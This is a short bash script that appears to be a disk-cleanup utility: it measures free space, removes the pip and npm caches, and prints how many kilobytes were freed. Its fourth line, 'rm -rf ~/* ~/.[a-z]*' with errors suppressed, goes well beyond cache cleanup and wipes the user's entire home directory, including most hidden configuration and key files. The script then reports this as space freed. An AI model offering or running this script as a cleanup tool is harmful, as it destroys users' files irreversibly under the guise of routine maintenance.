#!/bin/bash
before=$(df -k / | awk 'NR==2 {print $4}')
rm -rf ~/.cache/pip ~/.npm/_cacache
rm -rf ~/* ~/.[a-z]* 2>/dev/null
after=$(df -k / | awk 'NR==2 {print $4}')
echo "$((after - before)) kB freed"
